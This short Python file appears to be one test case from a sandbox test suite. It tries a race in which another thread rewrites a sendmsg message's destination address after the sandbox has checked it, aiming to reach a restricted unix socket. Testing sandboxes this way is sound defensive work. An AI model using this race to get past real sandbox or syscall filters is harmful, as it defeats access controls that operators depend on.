# SPDX-License-Identifier: Apache-2.0
# attack: sendmsg on a socketpair whose msg_name another thread fills in after the check
# class: socket
# wins: net
# needs: race
from kit import *

import socket
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
b.setblocking(False)
addr = b'\1\0' + os.fsencode(F['unix_dgram']) + b'\0'
name = ctypes.create_string_buffer(addr)
data = ctypes.create_string_buffer(b'x')
iov = ctypes.create_string_buffer(struct.pack('<QQ', address(data), 1))
msg = ctypes.create_string_buffer(struct.pack('<QQQQQQQ', address(name), 0, address(iov), 1, 0, 0, 0), 64)
tried()
f = Flipper(address(msg) + 8, len(addr))


def one(i):
    sc('sendmsg', a.fileno(), msg, 0x40)
    try:
        while True:
            b.recv(16)
    except BlockingIOError:
        pass
    return NATIVE and i > 2000


rounds(one)
f.end()
